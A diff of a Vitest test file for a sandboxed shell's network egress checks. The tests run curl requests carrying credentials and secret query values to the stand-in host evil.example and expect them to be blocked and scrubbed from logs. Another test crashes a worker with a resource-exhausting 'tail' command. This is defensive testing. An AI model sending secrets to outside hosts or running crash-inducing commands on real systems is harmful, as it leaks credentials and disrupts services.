@@ -1,6 +1,7 @@
 import { expect, it, vi } from 'vitest'
 import { until } from '../../../faults/helpers.ts'
 import { startServer } from '../../../strands-shell/support/http-server.ts'
+import { ownFieldsOf } from '../../../support/event-fields.ts'
 import { cellHost } from './helpers.ts'
 
 it('events are plain data: the cell, the address without query and user, what was decided, how it ended', async () => {
@@ -10,7 +11,7 @@ it('events are plain data: the cell, the address without query and user, what wa
   await sandbox.execute(`curl -s -d abc -u user:hush '${server.origin}/a?key=hush'`)
   await sandbox.execute("curl -s 'http://user:hush@evil.example/b?key=hush#hush'")
   await sandbox.execute("curl -s 'https://user:hush@evil.example/b?key=hush'")
-  expect(decisions).toEqual([
+  expect(decisions.map(ownFieldsOf)).toEqual([
     { allowed: true, cell: 'cell-1', method: 'POST', url: `${server.origin}/a`, address: '127.0.0.1' },
     { allowed: false, cell: 'cell-1', method: 'GET', url: 'http://evil.example/b', reason: 'NOT_ALLOWED' },
     { allowed: false, cell: 'cell-1', method: 'CONNECT', url: 'evil.example:443', reason: 'NOT_ALLOWED' },
@@ -24,7 +25,7 @@ it('events are plain data: the cell, the address without query and user, what wa
     sent: 3,
     received: 18,
   }
-  expect(ends).toEqual([{ ...end, duration: expect.any(Number) }])
+  expect(ends.map(ownFieldsOf)).toEqual([{ ...end, duration: expect.any(Number) }])
   expect(structuredClone([...decisions, ...ends])).toEqual([...decisions, ...ends])
   expect([...decisions, ...ends].every((data) => Object.isFrozen(data))).toBe(true)
 })
@@ -38,7 +39,7 @@ it('each cell has an id of its own, also one that replaces another', async () =>
   }
   const first = await ask('http://a.example/')
   await ask('http://b.example/')
-  const crash = await first.execute("jq -n 'def f: [f]; f'").catch((error: unknown) => error)
+  const crash = await first.execute('echo | tail -n 100000000000').catch((error: unknown) => error)
   expect(crash).toMatchObject({ code: 'WORKER_LOST' })
   await ask('http://c.example/')
   expect(decisions.map(({ cell }) => cell)).toEqual(['cell-1', 'cell-2', 'cell-3'])
